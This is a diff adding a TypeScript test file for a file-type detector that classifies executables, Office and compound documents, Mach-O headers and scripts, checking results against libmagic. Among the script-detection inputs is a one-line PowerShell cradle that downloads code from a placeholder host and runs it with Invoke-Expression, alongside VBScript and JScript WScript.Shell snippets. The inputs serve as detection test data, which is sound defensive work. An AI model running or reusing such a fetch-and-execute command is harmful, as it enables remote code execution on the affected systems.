@@ -1,0 +1,197 @@
+import { beforeAll, describe, expect, test } from "bun:test";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { bufferSource, fileSource } from "./bytes.ts";
+import { type FileType, detectType, identFilename } from "./filetype.ts";
+import { type Samples, run, sampleDir, samples, testIf, tools, writeOoxml, writePdf, writeZip } from "./samples.ts";
+
+let s: Samples;
+beforeAll(async () => {
+  s = await samples();
+}, 60000);
+
+function typeOf(path: string, name = path): FileType {
+  const src = fileSource(path);
+  try {
+    return detectType(src, name);
+  } finally {
+    src.close();
+  }
+}
+
+const text = (t: string, name?: string) => detectType(bufferSource(new TextEncoder().encode(t)), name);
+const fileTool = tools.file;
+
+async function libmagic(path: string): Promise<{ desc: string; mime: string }> {
+  return { desc: (await run(["file", "-b", path])).trim(), mime: (await run(["file", "-b", "--mime-type", path])).trim() };
+}
+
+/** A minimal compound file: header, one FAT sector, one directory sector naming the given streams. */
+function writeCfb(streams: string[], clsid?: number[]): Uint8Array {
+  const out = new Uint8Array(512 * 3);
+  const v = new DataView(out.buffer);
+  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
+  v.setUint16(0x18, 0x3e, true);
+  v.setUint16(0x1a, 3, true);
+  v.setUint16(0x1c, 0xfffe, true);
+  v.setUint16(0x1e, 9, true);
+  v.setUint16(0x20, 6, true);
+  v.setUint32(0x2c, 1, true); // one FAT sector
+  v.setUint32(0x30, 1, true); // directory starts at sector 1
+  v.setUint32(0x38, 4096, true);
+  v.setUint32(0x3c, 0xfffffffe, true);
+  v.setUint32(0x44, 0xfffffffe, true);
+  for (let i = 0; i < 109; i++) v.setUint32(0x4c + i * 4, i === 0 ? 0 : 0xffffffff, true);
+  // FAT (sector 0 at file offset 512): sector 0 is FAT, sector 1 is the end of the directory chain.
+  v.setUint32(512, 0xfffffffd, true);
+  v.setUint32(516, 0xfffffffe, true);
+  for (let i = 2; i < 128; i++) v.setUint32(512 + i * 4, 0xffffffff, true);
+  const names = ["Root Entry", ...streams].slice(0, 4);
+  names.forEach((name, i) => {
+    const o = 1024 + i * 128;
+    for (let k = 0; k < name.length; k++) v.setUint16(o + k * 2, name.charCodeAt(k), true);
+    v.setUint16(o + 0x40, (name.length + 1) * 2, true);
+    out[o + 0x42] = i === 0 ? 5 : 2;
+    v.setUint32(o + 0x44, 0xffffffff, true);
+    v.setUint32(o + 0x48, 0xffffffff, true);
+    v.setUint32(o + 0x4c, i === 0 && names.length > 1 ? 1 : 0xffffffff, true);
+    if (i === 0 && clsid) out.set(clsid, o + 0x50);
+  });
+  return out;
+}
+
+describe("file type by content", () => {
+  testIf(tools.gcc)("ELF executable and shared object agree with libmagic", async () => {
+    if (!s.elf) return console.warn(`skip: ${s.skip.elf}`);
+    for (const [path, kind] of [[s.elf, "pie executable"], [s.elfSo!, "shared object"]] as const) {
+      const t = typeOf(path);
+      expect(t.kind).toBe("elf");
+      expect(t.elf?.type).toBe(kind);
+      expect(t.platforms).toEqual([{ platform: "linux", os_version: "" }]);
+      expect(t.extension).toBe("");
+      if (fileTool.ok) {
+        const ref = await libmagic(path);
+        // libmagic adds BuildID and "not stripped" after what we describe.
+        expect(ref.desc.startsWith(t.filetype)).toBe(true);
+        expect(t.media_type).toBe(ref.mime);
+      }
+    }
+  });
+
+  testIf(tools.mingw)("PE32+/PE32, console/GUI, EXE/DLL agree with libmagic", async () => {
+    if (!s.pe64) return console.warn(`skip: ${s.skip.pe}`);
+    const cases: [string | undefined, Partial<NonNullable<FileType["pe"]>>, string][] = [
+      [s.pe64, { bits: 64, dll: false, subsystem: "console" }, "exe"],
+      [s.dll, { bits: 64, dll: true }, "dll"],
+      [s.pe32, { bits: 32, dll: false, subsystem: "GUI" }, "exe"],
+    ];
+    for (const [path, pe, ext] of cases) {
+      if (!path) continue;
+      const t = typeOf(path);
+      expect(t.kind).toBe("pe");
+      expect(t.pe).toMatchObject({ ...pe, dotnet: false });
+      expect(t.extension).toBe(ext);
+      expect(t.platforms[0]!.platform).toBe("windows");
+      if (fileTool.ok) {
+        const ref = await libmagic(path);
+        expect(ref.desc.startsWith(t.filetype)).toBe(true);
+        expect(t.media_type).toBe(ref.mime);
+      }
+    }
+  });
+
+  testIf(tools.mingw)(".NET flag from the CLR data directory", async () => {
+    if (!s.pe64) return console.warn(`skip: ${s.skip.pe}`);
+    const buf = new Uint8Array(await Bun.file(s.pe64).arrayBuffer());
+    const v = new DataView(buf.buffer);
+    const opt = v.getUint32(0x3c, true) + 24;
+    v.setUint32(opt + 112 + 14 * 8, 0x2000, true);
+    v.setUint32(opt + 112 + 14 * 8 + 4, 0x48, true);
+    const t = detectType(bufferSource(buf));
+    expect(t.pe?.dotnet).toBe(true);
+    expect(t.filetype).toContain("Mono/.Net assembly");
+  });
+
+  test("PDF, OOXML by [Content_Types].xml, plain zip, OLE by stream names", async () => {
+    const dir = sampleDir();
+    const pdf = detectType(bufferSource(writePdf()));
+    expect(pdf).toMatchObject({ kind: "pdf", filetype: "PDF document, version 1.7", media_type: "application/pdf", extension: "pdf" });
+    for (const [kind, ext, media, app, macros] of [
+      ["docx", "docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "word", false],
+      ["docm", "docm", "application/vnd.ms-word.document.macroEnabled.12", "word", true],
+      ["xlsx", "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "excel", false],
+      ["pptx", "pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation", "powerpoint", false],
+    ] as const) {
+      const buf = writeOoxml(kind);
+      const t = detectType(bufferSource(buf));
+      expect(t).toMatchObject({ kind: "ooxml", extension: ext, media_type: media, office: { app, macros } });
+      if (fileTool.ok && kind !== "docm") {
+        const p = join(dir, `t.${kind}`);
+        writeFileSync(p, buf);
+        expect((await libmagic(p)).mime).toBe(media);
+      }
+    }
+    const zip = detectType(bufferSource(writeZip([{ name: "a.txt", data: "hello" }])));
+    expect(zip).toMatchObject({ kind: "zip", media_type: "application/zip", zip: { encrypted: false, entries: 1 } });
+    const doc = writeCfb(["WordDocument", "Macros"]);
+    expect(detectType(bufferSource(doc))).toMatchObject({ kind: "ole", extension: "doc", media_type: "application/msword", office: { app: "word", macros: true } });
+    expect(detectType(bufferSource(writeCfb(["Workbook"])))).toMatchObject({ extension: "xls", office: { app: "excel", macros: false } });
+    const msi = detectType(bufferSource(writeCfb(["x"], [0x84, 0x10, 0x0c, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46])));
+    expect(msi).toMatchObject({ extension: "msi", office: { app: "msi" } });
+    if (fileTool.ok) {
+      const p = join(dir, "t.doc");
+      writeFileSync(p, doc);
+      expect((await libmagic(p)).desc).toStartWith("Composite Document File V2 Document");
+    }
+  });
+
+  test("Mach-O thin and fat headers", () => {
+    const thin = new Uint8Array(64);
+    new DataView(thin.buffer).setUint32(0, 0xfeedfacf, true);
+    new DataView(thin.buffer).setUint32(4, 0x01000007, true);
+    new DataView(thin.buffer).setUint32(12, 2, true);
+    expect(detectType(bufferSource(thin))).toMatchObject({ kind: "macho", filetype: "Mach-O 64-bit x86_64 executable", platforms: [{ platform: "macos", os_version: "" }] });
+    const fat = new Uint8Array(64);
+    const v = new DataView(fat.buffer);
+    v.setUint32(0, 0xcafebabe);
+    v.setUint32(4, 2);
+    v.setUint32(8, 0x01000007);
+    v.setUint32(28, 0x0100000c);
+    expect(detectType(bufferSource(fat))).toMatchObject({ kind: "macho", macho: { fat: true, architectures: ["x86_64", "arm64"] } });
+    // A Java class file starts with the same magic but has a large version number after it.
+    const cls = new Uint8Array(64);
+    new DataView(cls.buffer).setUint32(0, 0xcafebabe);
+    new DataView(cls.buffer).setUint32(4, 0x00000034);
+    expect(detectType(bufferSource(cls)).kind).not.toBe("macho");
+  });
+
+  test("scripts by shebang, content and extension; text; data", () => {
+    expect(text("#!/bin/sh\necho hi\n")).toMatchObject({ kind: "script", script: "sh", platforms: [{ platform: "linux" }] });
+    expect(text("#!/usr/bin/env python3\nprint(1)\n").script).toBe("python");
+    expect(text("#!/usr/bin/env node\nconsole.log(1)\n").script).toBe("node");
+    expect(text('$c = New-Object Net.WebClient\n$env:TEMP\nInvoke-Expression $c.DownloadString("http://x.example.com/a")\n')).toMatchObject({ script: "powershell", extension: "ps1", platforms: [{ platform: "windows" }] });
+    expect(text('Dim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n').script).toBe("vbs");
+    expect(text("@echo off\nset X=1\ngoto end\n:end\n").script).toBe("batch");
+    expect(text('var s = new ActiveXObject("WScript.Shell");\nfunction f() { eval("1"); }\n').script).toBe("js");
+    expect(text("import os\nfrom sys import argv\ndef main():\n    pass\n").script).toBe("python");
+    expect(text("Write-Host hi", "run.ps1").script).toBe("powershell");
+    expect(text("just some words\nand more\n")).toMatchObject({ kind: "text", filetype: "ASCII text", platforms: [] });
+    expect(text("gr\u00fc\u00dfe\n").filetype).toBe("Unicode text, UTF-8 text");
+    // PowerShell is often saved as UTF-16LE with a BOM.
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Invoke-Expression $env:X\nWrite-Host 1\n", "utf16le")]);
+    expect(detectType(bufferSource(utf16)).script).toBe("powershell");
+    expect(detectType(bufferSource(Uint8Array.from([0, 1, 2, 3, 0xff, 0x80, 0])))).toMatchObject({ kind: "data", media_type: "application/octet-stream" });
+    expect(detectType(bufferSource(new Uint8Array(0))).kind).toBe("empty");
+  });
+
+  test("identFilename appends the detected extension unless an alias is there", () => {
+    const pe = detectType(bufferSource(Uint8Array.from([0x4d, 0x5a])));
+    expect(pe.kind).toBe("msdos");
+    const exe = { ...pe, kind: "pe" as const, extension: "exe", aliases: ["scr"] };
+    expect(identFilename("sample", exe)).toBe("sample.exe");
+    expect(identFilename("a.EXE", exe)).toBe("a.EXE");
+    expect(identFilename("screen.scr", exe)).toBe("screen.scr");
+    expect(identFilename("noext", text("hello world\n"))).toBe("noext");
+  });
+});
+
